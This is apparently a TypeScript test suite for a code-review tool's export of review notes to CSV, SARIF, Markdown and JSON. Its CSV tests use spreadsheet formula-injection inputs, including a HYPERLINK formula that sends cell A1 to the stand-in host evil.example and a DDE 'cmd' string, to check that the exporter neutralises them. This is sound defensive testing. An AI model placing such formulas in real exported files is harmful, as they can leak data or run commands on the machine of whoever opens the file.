import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import AjvDraft04 from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import { CSV_COLUMNS, csvField, exportCsv, neutraliseFormula, parseCsv } from '../../../src/core/review/exportCsv';
import { exportJson } from '../../../src/core/review/exportJson';
import { exportMarkdown } from '../../../src/core/review/exportMarkdown';
import type { ExportContext } from '../../../src/core/review/exportOptions';
import { exportReviewNotes } from '../../../src/core/review/exportReview';
import { artifactLocation, buildSarif, FINGERPRINT_KEY, folderBaseIds, sarifRegion, type SarifLog } from '../../../src/core/review/exportSarif';
import { makeThread } from './threadFixtures';

const context: ExportContext = { generatedAt: '2026-02-03T04:05:06.000Z', toolVersion: '0.1.0', projectName: 'shop', workspaceFolders: [{ name: 'shop', uri: 'file:///home/ada/shop/' }] };

const threads = [
  makeThread({ id: 'a'.repeat(32), kind: 'bug', bodies: ['Cache never evicts, so memory grows.', 'Agreed, "LRU" please, with a cap, say 1,000.\nSee #12.'] }),
  makeThread({ id: 'b'.repeat(32), kind: 'praise', state: 'resolved', path: 'src/my file (1).ts', range: { startLine: 0, startCharacter: 4, endLine: 0, endCharacter: 9 } }),
  makeThread({ id: 'c'.repeat(32), kind: 'question', anchorState: 'orphaned', anchorNote: 'the function was deleted', path: 'docs/guide.md' }),
];

/** The SARIF 2.1.0 JSON schema, as Microsoft's SARIF SDK ships it (draft-04). */
function sarifValidator() {
  const schemaFile = require.resolve('@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json');
  const schema = JSON.parse(fs.readFileSync(schemaFile, 'utf8'));
  // The schema's `language` pattern is not valid with the `u` flag Ajv uses by default.
  const ajv = new AjvDraft04({ allErrors: true, strict: false, unicodeRegExp: false });
  addFormats(ajv);
  return ajv.compile(schema);
}

describe('review note export', () => {
  describe('CSV', () => {
    it('quotes fields with commas, quotes and line breaks as RFC 4180 says', () => {
      assert.equal(csvField('plain'), 'plain');
      assert.equal(csvField('a,b'), '"a,b"');
      assert.equal(csvField('say "hi"'), '"say ""hi"""');
      assert.equal(csvField('two\nlines'), '"two\nlines"');
      assert.equal(csvField('cr\ronly'), '"cr\ronly"');
      assert.equal(csvField(''), '');
    });

    it('writes one CRLF-terminated record per note that reads back to the same fields', () => {
      const text = exportCsv(threads);
      assert.ok(text.endsWith('\r\n'));
      const rows = parseCsv(text);
      assert.deepEqual(rows[0], [...CSV_COLUMNS]);
      assert.equal(rows.length, 4);
      assert.ok(rows.every((r) => r.length === CSV_COLUMNS.length));
      const col = (row: string[], name: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(name)];
      assert.equal(col(rows[1], 'firstComment'), 'Cache never evicts, so memory grows.');
      assert.equal(col(rows[1], 'replies'), 'Bob (2026-01-02T09:30:00.000Z): Agreed, "LRU" please, with a cap, say 1,000.\nSee #12.');
      assert.equal(col(rows[1], 'lines'), '12-18');
      assert.equal(col(rows[1], 'startLine'), '12');
      assert.equal(col(rows[1], 'endLine'), '18');
      assert.equal(col(rows[2], 'file'), 'src/my file (1).ts');
      assert.equal(col(rows[2], 'lines'), '1');
      assert.equal(col(rows[3], 'placement'), 'orphaned');
      assert.equal(col(rows[3], 'placementNote'), 'the function was deleted');
    });

    describe('opened in a spreadsheet', () => {
      it('puts a single quote before a cell that starts with any formula character', () => {
        for (const start of ['=', '+', '-', '@', '\t', '\r', '\0']) {
          const value = `${start}SUM(A1:A9)`;
          assert.equal(neutraliseFormula(value), `'${value}`, JSON.stringify(start));
        }
        assert.equal(csvField('=1+1'), "'=1+1");
        assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
        assert.equal(csvField('+cmd|x'), "'+cmd|x");
        assert.equal(csvField('\tlead'), "'\tlead");
      });

      it('puts the quote inside the CSV quotes when the cell also needs quoting', () => {
        const attack = '=HYPERLINK("http://evil.example/?"&A1,"click")';
        assert.equal(csvField(attack), `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
        assert.equal(csvField('\r\n=1+1'), `"'\r\n=1+1"`);
        assert.equal(csvField('-1, I disagree'), `"'-1, I disagree"`);
        // A cell that already starts with a double quote is text to a spreadsheet: only RFC 4180 quoting.
        assert.equal(csvField('"=1+1"'), '"""=1+1"""');
        assert.equal(csvField("'=1+1"), "'=1+1");
      });

      it('prefixes lone numbers with a sign too, and leaves formula characters later in a cell alone', () => {
        assert.equal(csvField('-1'), "'-1");
        assert.equal(csvField('+1'), "'+1");
        assert.equal(csvField('12-18'), '12-18');
        assert.equal(csvField('a = b + c - d @ e'), 'a = b + c - d @ e');
        assert.equal(csvField('x\t=1'), 'x\t=1');
        assert.equal(csvField('12'), '12');
        assert.equal(csvField(''), '');
      });

      it('neutralises every column of an exported note, so a teammate\'s comment or name cannot run', () => {
        const hostile = makeThread({ id: 'd'.repeat(32), author: '@evil', bodies: ['=HYPERLINK("http://evil.example","click")', '+1', '-cmd|\' /C calc\'!A0'], anchorNote: '=1+1' });
        const rows = parseCsv(exportCsv([hostile]));
        const col = (name: (typeof CSV_COLUMNS)[number]) => rows[1][CSV_COLUMNS.indexOf(name)];
        assert.equal(rows.length, 2);
        assert.equal(rows[1].length, CSV_COLUMNS.length);
        assert.equal(col('firstComment'), '\'=HYPERLINK("http://evil.example","click")');
        assert.equal(col('author'), "'@evil");
        assert.equal(col('placementNote'), "'=1+1");
        assert.equal(col('replies'), "Bob (2026-01-02T09:30:00.000Z): +1\n\nAda (2026-01-03T09:30:00.000Z): -cmd|' /C calc'!A0");
        assert.equal(col('lines'), '12-18');
        for (const cell of rows[1]) assert.doesNotMatch(cell, /^[=+\-@\t\r\0]/, cell);
      });
    });
  });

  describe('SARIF', () => {
    const validate = sarifValidator();

    it('is valid against the SARIF 2.1.0 schema', () => {
      const log = buildSarif(threads, context);
      const ok = validate(log);
      assert.ok(ok, JSON.stringify(validate.errors, null, 2));
    });

    it('is still valid with no notes and no workspace root', () => {
      const log = buildSarif([], { generatedAt: context.generatedAt, toolVersion: '0.1.0' });
      assert.ok(validate(log), JSON.stringify(validate.errors, null, 2));
      assert.equal(log.runs[0].originalUriBaseIds, undefined);
    });

    it('fails the schema when a rule is broken, so the check above means something', () => {
      const log = JSON.parse(JSON.stringify(buildSarif(threads, context))) as SarifLog;
      (log.runs[0].results[0].locations[0].physicalLocation.region as { startLine: number }).startLine = 0;
      assert.equal(validate(log), false);
    });

    it('writes one result per note: rule from kind, level from kind, first comment as message', () => {
      const log = buildSarif(threads, context);
      const [bug, praise, question] = log.runs[0].results;
      assert.equal(log.runs[0].results.length, 3);
      assert.equal(bug.ruleId, 'review/bug');
      assert.equal(bug.level, 'error');
      assert.equal(bug.message.text, 'Cache never evicts, so memory grows.');
      assert.deepEqual((bug.properties.replies as Array<{ body: string }>).map((r) => r.body), ['Agreed, "LRU" please, with a cap, say 1,000.\nSee #12.']);
      assert.equal(praise.level, 'none');
      assert.equal(praise.kind, 'informational');
      assert.equal(question.level, 'note');
      assert.equal(question.properties.placement, 'orphaned');
      const rules = log.runs[0].tool.driver.rules as Array<{ id: string }>;
      for (const r of log.runs[0].results) assert.equal(rules[r.ruleIndex].id, r.ruleId);
    });

    it('uses 1-based regions, relative percent-encoded URIs and the anchor hash as fingerprint', () => {
      const log = buildSarif(threads, context);
      const [bug, praise] = log.runs[0].results;
      const location = praise.locations[0].physicalLocation;
      assert.deepEqual(location.artifactLocation, { uri: 'src/my%20file%20(1).ts', uriBaseId: 'SRCROOT' });
      assert.deepEqual({ ...location.region, snippet: undefined }, { startLine: 1, startColumn: 5, endLine: 1, endColumn: 10, snippet: undefined });
      assert.deepEqual(bug.partialFingerprints, { [FINGERPRINT_KEY]: 'a1b2c3d4e5f6' });
      assert.equal(log.runs[0].originalUriBaseIds?.SRCROOT.uri, 'file:///home/ada/shop/');
    });

    describe('in a multi-root workspace', () => {
      // Stored paths start with the folder's name when the workspace has several folders.
      const folders = [
        { name: 'shop', uri: 'file:///home/ada/shop' },
        { name: 'web-app', uri: 'file:///home/ada/my%20projects/web/' },
        { name: 'Docs', uri: 'file:///srv/docs/' },
      ];
      const multi: ExportContext = { ...context, workspaceFolders: folders };
      const notes = [
        makeThread({ path: 'shop/src/cache.ts' }),
        makeThread({ path: 'web-app/src/my file (1).ts' }),
        makeThread({ path: 'Docs/guide.md' }),
        makeThread({ path: 'src/made-before-adding-folders.ts' }),
        makeThread({ path: 'web-app' }),
      ];
      const resolve = (log: SarifLog, index: number) => {
        const { uri, uriBaseId } = log.runs[0].results[index].locations[0].physicalLocation.artifactLocation;
        return new URL(uri, log.runs[0].originalUriBaseIds![uriBaseId].uri).href;
      };

      it('is valid against the SARIF 2.1.0 schema', () => {
        const log = buildSarif(notes, multi);
        assert.ok(validate(log), JSON.stringify(validate.errors, null, 2));
      });

      it('gives each folder its own base id: SRCROOT for the first, one named after each other folder', () => {
        const log = buildSarif(notes, multi);
        assert.deepEqual(log.runs[0].originalUriBaseIds, {
          SRCROOT: { uri: 'file:///home/ada/shop/', description: { text: 'The workspace folder "shop"' } },
          SRCROOT_WEB_APP: { uri: 'file:///home/ada/my%20projects/web/', description: { text: 'The workspace folder "web-app"' } },
          SRCROOT_DOCS: { uri: 'file:///srv/docs/', description: { text: 'The workspace folder "Docs"' } },
        });
      });

      it('resolves every location to the file in its own folder', () => {
        const log = buildSarif(notes, multi);
        assert.equal(resolve(log, 0), 'file:///home/ada/shop/src/cache.ts');
        assert.equal(resolve(log, 1), 'file:///home/ada/my%20projects/web/src/my%20file%20(1).ts');
        assert.equal(resolve(log, 2), 'file:///srv/docs/guide.md');
        assert.deepEqual(log.runs[0].results[1].locations[0].physicalLocation.artifactLocation, { uri: 'src/my%20file%20(1).ts', uriBaseId: 'SRCROOT_WEB_APP' });
      });

      it('puts a path that names no folder in the first folder, as Lore opens it', () => {
        const log = buildSarif(notes, multi);
        assert.equal(resolve(log, 3), 'file:///home/ada/shop/src/made-before-adding-folders.ts');
        assert.equal(resolve(log, 4), 'file:///home/ada/shop/web-app');
      });

      it('keeps ids apart when two folder names come out the same', () => {
        const ids = folderBaseIds([
          { name: 'app', uri: 'file:///a/' }, { name: 'web app', uri: 'file:///b/' }, { name: 'web-app', uri: 'file:///c/' }, { name: '☃', uri: 'file:///d/' }, { name: '--', uri: 'file:///e/' },
        ]).map((b) => b.id);
        assert.deepEqual(ids, ['SRCROOT', 'SRCROOT_WEB_APP', 'SRCROOT_WEB_APP_2', 'SRCROOT_FOLDER', 'SRCROOT_FOLDER_2']);
        // The second folder's path goes to the second folder, not the third with the same id stem.
        const bases = folderBaseIds([{ name: 'app', uri: 'file:///a/' }, { name: 'web app', uri: 'file:///b/' }, { name: 'web-app', uri: 'file:///c/' }]);
        assert.deepEqual(artifactLocation('web-app/x.ts', bases), { uri: 'x.ts', uriBaseId: 'SRCROOT_WEB_APP_2' });
      });

      it('does not strip a leading folder name in a single-root workspace', () => {
        const log = buildSarif([makeThread({ path: 'shop/src/cache.ts' })], context);
        assert.equal(resolve(log, 0), 'file:///home/ada/shop/shop/src/cache.ts');
        assert.deepEqual(Object.keys(log.runs[0].originalUriBaseIds!), ['SRCROOT']);
        assert.equal(log.runs[0].originalUriBaseIds!.SRCROOT.description?.text, 'The workspace folder');
      });
    });

    it('ends a whole-line selection on its last line', () => {
      assert.deepEqual(sarifRegion({ startLine: 4, startCharacter: 0, endLine: 9, endCharacter: 0 }), { startLine: 5, startColumn: 1, endLine: 9 });
      assert.deepEqual(sarifRegion({ startLine: 4, startCharacter: 2, endLine: 4, endCharacter: 2 }), { startLine: 5, startColumn: 3, endLine: 5, endColumn: 3 });
    });

    it('marks resolved notes as accepted external suppressions', () => {
      const [bug, praise] = buildSarif(threads, context).runs[0].results;
      assert.equal(bug.suppressions, undefined);
      assert.deepEqual(praise.suppressions?.map((s) => [s.kind, s.status]), [['external', 'accepted']]);
    });
  });

  describe('Markdown', () => {
    it('groups notes by file with their code and discussion', () => {
      const text = exportMarkdown(threads, context);
      assert.match(text, /^# Review notes — shop\n/);
      assert.match(text, /3 notes \(2 open · 1 resolved\) in 3 files\./);
      assert.match(text, /Exported 2026-02-03 04:05 UTC by Lore 0\.1\.0/);
      const docs = text.indexOf('## `docs/guide.md`');
      const cache = text.indexOf('## `src/cache.ts`');
      assert.ok(docs > 0 && cache > docs, 'files in path order');
      assert.match(text, /### 🐞 Bug · open — lines 12-18\n\n```typescript\nfunction get\(key\) \{/);
      assert.match(text, /\*\*Bob\*\* · 2026-01-02 09:30 UTC\n\nAgreed/);
      assert.match(text, /❓ Question · open — lines 12-18 \(orphaned: the function was deleted \(was at lines 12-18 of docs\/guide\.md\)\)/);
    });

    it('fences code longer than any backtick run inside it', () => {
      const thread = makeThread({ path: 'notes.md' });
      thread.anchor.text = 'Use ```js blocks``` here';
      const text = exportMarkdown([thread], context);
      assert.match(text, /````markdown\nUse ```js blocks``` here\n````/);
    });

    it('says so when nothing matched', () => {
      assert.match(exportMarkdown([], context, 'open · mine'), /No review notes match\. Filter: open · mine\./);
    });
  });

  describe('JSON', () => {
    it('keeps every note with its anchor and discussion', () => {
      const doc = JSON.parse(exportJson(threads, context, { status: 'all' }));
      assert.equal(doc.format, 'lore.reviewNotes');
      assert.equal(doc.version, 1);
      assert.equal(doc.generatedAt, context.generatedAt);
      assert.equal(doc.threads.length, 3);
      assert.equal(doc.threads[0].lines, '12-18');
      assert.deepEqual(doc.threads[0].anchor.range, threads[0].anchor.range);
      assert.deepEqual(doc.threads[0].comments.map((c: { author: string }) => c.author), ['Ada', 'Bob']);
      assert.equal(doc.threads[2].placementNote, 'the function was deleted');
    });
  });

  it('filters by status and file before writing any format', () => {
    const open = exportReviewNotes(threads, { ...context, format: 'sarif', filter: { status: 'open' } });
    assert.equal(open.count, 2);
    assert.equal((JSON.parse(open.text) as SarifLog).runs[0].results.length, 2);
    const inDocs = exportReviewNotes(threads, { ...context, format: 'csv', filter: { files: ['docs/'] } });
    assert.equal(inDocs.count, 1);
    assert.equal(parseCsv(inDocs.text).length, 2);
    const md = exportReviewNotes(threads, { ...context, format: 'markdown', filter: { status: 'resolved', author: 'Ada' } }, 'Ada');
    assert.match(md.text, /Filter: resolved · mine\./);
    assert.doesNotMatch(md.text, /Cache never evicts/);
  });
});
